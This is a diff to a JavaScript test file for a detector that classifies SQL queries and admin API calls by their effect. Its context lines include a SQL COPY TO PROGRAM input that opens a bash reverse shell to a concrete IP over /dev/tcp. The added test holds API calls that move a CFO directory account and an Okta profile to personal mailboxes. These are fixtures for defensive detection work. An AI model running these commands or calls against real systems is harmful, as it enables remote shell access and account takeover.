@@ -189,3 +189,13 @@ test('query: the dominant primitive names the effect (rows read out, a shell ope
   assert.equal(prim("COPY (SELECT '') TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/94.131.8.2/5555 0>&1\"'"), 'ESCALATION');
   assert.equal(prim("UPDATE users SET role = 'admin' WHERE email = 'x@gmail.com'"), 'ESCALATION');
 });
+
+test('api_call: a directory account moved to a personal mailbox; a consumer profile with a free-mail address is routine', () => {
+  expectAll('api_call', [
+    c('PUT https://admin.googleapis.com/admin/directory/v1/users/cfo@acme.com {"primaryEmail":"cfo.acme@gmail.com"}'),
+    c('PATCH https://acme.okta.com/api/v1/users/00u1 {"profile":{"email":"it.helpdesk.acme@proton.me"}}'),
+  ], [
+    c('PUT https://api.acme.com/v1/users/42 {"email":"john.smith@gmail.com","name":"John"}'),
+    c('PUT https://app.example.com/api/v1/users/42 {"email":"john.smith@gmail.com"}'),
+  ]);
+});
